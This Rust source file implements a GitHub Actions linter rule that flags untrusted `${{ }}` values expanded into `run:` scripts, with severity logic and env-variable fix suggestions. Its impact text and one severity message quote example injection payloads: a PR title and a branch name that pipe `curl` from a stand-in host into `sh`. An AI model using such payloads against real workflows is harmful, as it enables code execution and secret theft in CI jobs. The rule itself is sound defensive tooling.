//! `security/template-injection`: a `${{ }}` expression whose value an outsider (or a
//! caller) controls, expanded directly into code — a `run:` script, an
//! `actions/github-script` `script:`, or another action input that is executed.

use super::common::{
    self, attacker_severity, classify, env_name, env_value, input_is_typed, matrix_is_static,
    value_contexts, value_span, Taint,
};
use crate::finding::{Category, Confidence, Severity};
use crate::github::expr::find_embedded;
use crate::rules::{Ctx, FixMeta, Rule, RuleMeta, StepSite};
use pipewise_yaml::Node;
use std::collections::BTreeSet;

pub struct TemplateInjection;

pub static META: RuleMeta = RuleMeta {
    id: "security/template-injection",
    title: "Untrusted value expanded into code",
    severity: Severity::High,
    confidence: Confidence::High,
    category: Category::Security,
    summary: "A `${{ }}` expression whose value comes from outside the repository (issue or PR titles and bodies, comments, branch names, commit messages) or from a caller (`inputs.*`) is pasted into a `run:` script or another code input before the shell sees it.",
    impact: "Whoever writes that value runs their own commands in the job, with its secrets and token: a PR title of `\"; curl evil.sh | sh #` is enough.",
    doc: r#"
## Why it matters
GitHub substitutes `${{ }}` expressions into the script text before the shell runs it.
Quoting does not help: a value containing `"`, `$(…)` or a newline becomes code. When
the value is written by an outsider — a pull request title, an issue body, a comment,
a fork's branch name — anyone can run commands in the job. On `pull_request_target`,
`issue_comment`, `issues` and `workflow_run` the job has the repository's secrets and a
write token, so this is a full compromise. Passing the value through an environment
variable makes it data: the shell expands `"$TITLE"` without interpreting it.

Severity follows the trigger: critical on events outsiders start with secrets
(`pull_request_target`, `issue_comment`, `issues`, `workflow_run`, …), high in reusable
workflows (their callers may run them on such events), medium in composite actions,
low on `push`/`workflow_dispatch`/`release` (the value comes from someone who could push
or merge) and on `pull_request` (the fork's author already controls the code being
built). `inputs.*` and branch/tag names (`github.ref_name`, `github.base_ref`) are low
(whoever starts the run or pushes the ref chooses them);
a step output (`steps.<id>.outputs.<name>`) or job output (`needs.<job>.outputs.<name>`)
is followed to the step that sets it: a `name=…` line written to `$GITHUB_OUTPUT`
(also in a `{ …; }` group or a here-document) whose value carries an outside
`${{ }}`, an `env:` variable bound to one, or a shell variable assigned from one
earlier in the script (through parameter expansions such as `${HEAD#refs/heads/}`),
or `core.setOutput('name', context.payload.…)` in `actions/github-script`; the finding
then has that source's severity and names it. Outputs whose source is not found and
dynamic `env`/`matrix` values are info (provenance unknown); an output only ever set
to literal text (`echo "count=1" >> "$GITHUB_OUTPUT"`) is not reported. Numbers,
SHAs, booleans, `needs.*.result`, `steps.*.outcome`, logins, repository names
(`github.event.repository.name`), values of a static matrix (literals, also through
`include:` and in `toJSON(matrix)`, or text whose expressions read only such values,
`ctrd-${{ github.run_id }}`) and values only used in `if:` or compared inside the
expression are not reported.

## Bad
```yaml
on: issue_comment
jobs:
  triage:
    runs-on: ubuntu-latest
    steps:
      - run: echo "${{ github.event.comment.body }}" | ./triage.sh
```

## Good
```yaml
on: issue_comment
jobs:
  triage:
    runs-on: ubuntu-latest
    steps:
      - env:
          COMMENT_BODY: ${{ github.event.comment.body }}
        run: printf '%s\n' "$COMMENT_BODY" | ./triage.sh
```
"#,
    fix: FixMeta {
        description: "Move the expression into the step's `env:` and use the variable, quoted, in the script.",
        snippet: "env:\n  TITLE: ${{ github.event.pull_request.title }}\nrun: echo \"$TITLE\"",
        effort_minutes: 10,
    },
    references: &[
        "zizmor: template-injection",
        "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections",
        "https://securitylab.github.com/resources/github-actions-untrusted-input/",
    ],
};

struct Sink<'a> {
    node: &'a Node,
    text: &'a str,
    /// `run` or the action input name.
    what: String,
    /// `sh`, `js`, `pwsh`, `py`, `prompt`.
    lang: &'static str,
    /// The action input, `None` for `run`.
    input: Option<String>,
}

fn sinks<'a>(site: &StepSite<'_, 'a>) -> Vec<Sink<'a>> {
    let mut out = vec![];
    if let Some(run) = &site.step.run {
        let lang = match run.shell.map(|s| s.split_whitespace().next().unwrap_or("")) {
            Some("pwsh") | Some("powershell") => "pwsh",
            Some("python") => "py",
            _ => "sh",
        };
        out.push(Sink {
            node: run.node,
            text: run.text,
            what: "run".into(),
            lang,
            input: None,
        });
    }
    if let Some((node, input, lang)) = common::code_input(site.step) {
        if let Some(text) = node.as_str() {
            out.push(Sink {
                node,
                text,
                what: format!(
                    "`{input}:` input of `{}`",
                    site.step.action().unwrap_or_default()
                ),
                lang,
                input: Some(input.to_string()),
            });
        }
    }
    out
}

/// Classifies a context in this step, resolving static `env`/`matrix` values.
fn taint_at(site: &StepSite, path: &str, depth: u8) -> (Taint, String) {
    let t = classify(path);
    let mut parts = path.splitn(2, '.');
    let head = parts.next().unwrap_or("");
    let name = parts.next().unwrap_or("");
    match (t, head) {
        (Taint::Unknown, "env") => {
            match env_value(site.workflow, site.job, site.step, name) {
                Some(v) => {
                    let Some(s) = v.as_str() else {
                        return (Taint::Safe, path.into());
                    };
                    if !s.contains("${{") || depth > 2 {
                        return (Taint::Safe, path.into());
                    }
                    // The env value is itself an expression: its worst source counts.
                    let mut worst = (Taint::Safe, path.to_string());
                    for emb in find_embedded(s) {
                        let Ok(e) = &emb.expr else { continue };
                        for (p, _) in value_contexts(e) {
                            let (t2, src) = taint_at(site, &p, depth + 1);
                            if t2 > worst.0 {
                                worst = (t2, src);
                            }
                        }
                    }
                    worst
                }
                // Set at runtime (GITHUB_ENV) or by the runner: unknown.
                None => (Taint::Unknown, path.into()),
            }
        }
        // An earlier step's (or a needed job's) output that is set from an outside value.
        (Taint::Unknown, "steps" | "needs") => {
            match common::context_source(site.workflow, site.job, site.step, path, depth + 1) {
                Some(src) => {
                    let t = classify(&src);
                    let input = src.rsplit('.').next().unwrap_or("");
                    let root = site.action.map(|a| a.root);
                    if t == Taint::Caller && input_is_typed(site.workflow, root, input) {
                        (Taint::Safe, src)
                    } else {
                        (t, src)
                    }
                }
                None => {
                    let mut parts = path.split('.');
                    let literal = match (parts.next(), parts.next(), parts.next(), parts.next()) {
                        (Some("steps"), Some(id), Some("outputs"), Some(name)) => site
                            .job
                            .is_some_and(|j| common::step_output_literal(j, id, name)),
                        _ => false,
                    };
                    if literal {
                        (Taint::Safe, path.into())
                    } else {
                        (Taint::Unknown, path.into())
                    }
                }
            }
        }
        (Taint::Unknown, "matrix") => {
            let key = name.split('.').next().unwrap_or("");
            if matrix_is_static(site.job, key) {
                (Taint::Safe, path.into())
            } else {
                (Taint::Unknown, path.into())
            }
        }
        (Taint::Caller, _) => {
            let input = path.rsplit('.').next().unwrap_or("");
            let root = site.action.map(|a| a.root);
            if input_is_typed(site.workflow, root, input) {
                (Taint::Safe, path.into())
            } else {
                (Taint::Caller, path.into())
            }
        }
        _ => (t, path.into()),
    }
}

/// The context paths (`github.event.issue.title`) written in `text[inner]`, found
/// lexically: for an expression the parser refuses as nested too deeply.
fn lexical_contexts(
    text: &str,
    inner: crate::github::expr::Span,
) -> Vec<(String, crate::github::expr::Span)> {
    const ROOTS: &[&str] = &[
        "github", "inputs", "env", "steps", "needs", "matrix", "vars", "jobs", "runner", "strategy",
    ];
    let b = text.as_bytes();
    let ident = |c: u8| c.is_ascii_alphanumeric() || c == b'_' || c == b'-';
    let mut out = vec![];
    let end = inner.end.min(b.len());
    let mut i = inner.start.min(end);
    while i < end {
        let starts = (b[i].is_ascii_alphabetic() || b[i] == b'_')
            && (i == 0 || !(ident(b[i - 1]) || b[i - 1] == b'.'));
        if !starts {
            i += 1;
            continue;
        }
        let start = i;
        while i < end
            && (ident(b[i])
                || (b[i] == b'.' && b.get(i + 1).is_some_and(|&c| ident(c) || c == b'*'))
                || (b[i] == b'*' && b[i - 1] == b'.'))
        {
            i += 1;
        }
        let path = &text[start..i];
        let root = path.split('.').next().unwrap_or("");
        if path.contains('.') && ROOTS.iter().any(|r| root.eq_ignore_ascii_case(r)) {
            out.push((path.to_string(), crate::github::expr::Span::new(start, i)));
        }
    }
    out
}

impl Rule for TemplateInjection {
    fn meta(&self) -> &'static RuleMeta {
        &META
    }
    fn step(&self, site: &StepSite, cx: &mut Ctx) {
        for sink in sinks(site) {
            let mut seen = BTreeSet::new();
            for emb in find_embedded(sink.text) {
                let contexts = match &emb.expr {
                    Ok(e) => value_contexts(e),
                    // Too deep for the parser, which GitHub may still read: every
                    // context path written in it, so the nesting hides nothing.
                    Err(err) if err.message.contains("nested too deeply") => {
                        lexical_contexts(sink.text, emb.inner)
                    }
                    Err(_) => continue,
                };
                for (path, span) in contexts {
                    let (taint, source) = taint_at(site, &path, 0);
                    if taint == Taint::Safe || !seen.insert(path.clone()) {
                        continue;
                    }
                    let (sev, why, conf) = match taint {
                        Taint::Attacker => {
                            let (s, w) = attacker_severity(site.workflow, site.job.map(|j| (j, site.step)), Some(cx.repo), &source);
                            (s, w, Confidence::High)
                        }
                        Taint::Caller if !source.starts_with("inputs.") && !source.starts_with("github.event.inputs.") => (
                            Severity::Low,
                            "anyone who can push a branch or tag chooses its name, and a name like `a$(curl${IFS}x.sh|sh)` is valid".to_string(),
                            Confidence::Medium,
                        ),
                        Taint::Caller => (
                            Severity::Low,
                            "whoever starts or calls the workflow chooses it".to_string(),
                            Confidence::Medium,
                        ),
                        _ => (
                            Severity::Info,
                            "its value is computed at runtime and may carry outside data"
                                .to_string(),
                            Confidence::Low,
                        ),
                    };
                    let expr_text = sink
                        .text
                        .get(span.start..span.end)
                        .unwrap_or(path.as_str())
                        .to_string();
                    let via = if source != path {
                        format!(" (its value comes from `{source}`)")
                    } else {
                        String::new()
                    };
                    let var = env_name(&path);
                    let (use_it, lang_note) = match sink.lang {
                        "js" => (format!("process.env.{var}"), "read it from `process.env`"),
                        "pwsh" => (format!("$env:{var}"), "use `$env:` in the script"),
                        "py" => (
                            format!("os.environ[\"{var}\"]"),
                            "read it from `os.environ`",
                        ),
                        _ => (format!("\"${var}\""), "quote the variable in the script"),
                    };
                    let snippet = match &sink.input {
                        None => format!("env:\n  {var}: ${{{{ {expr_text} }}}}\nrun: … {use_it} …"),
                        Some(input) => format!(
                            "env:\n  {var}: ${{{{ {expr_text} }}}}\nwith:\n  {input}: … {use_it} …"
                        ),
                    };
                    let file_span = value_span(site.doc, sink.node, span);
                    let msg = format!(
                        "`${{{{ {expr_text} }}}}`{via} is pasted into the {} as code before it runs; {why}.",
                        if sink.what == "run" { "`run:` script".to_string() } else { sink.what.clone() },
                    );
                    cx.report(&META, site.path, file_span, msg)
                        .severity(sev)
                        .confidence(conf)
                        .site(site)
                        .fix(
                            format!(
                                "Pass `{expr_text}` through `env:` as `{var}` and {lang_note}."
                            ),
                            snippet,
                            10,
                        );
                }
            }
        }
    }
}
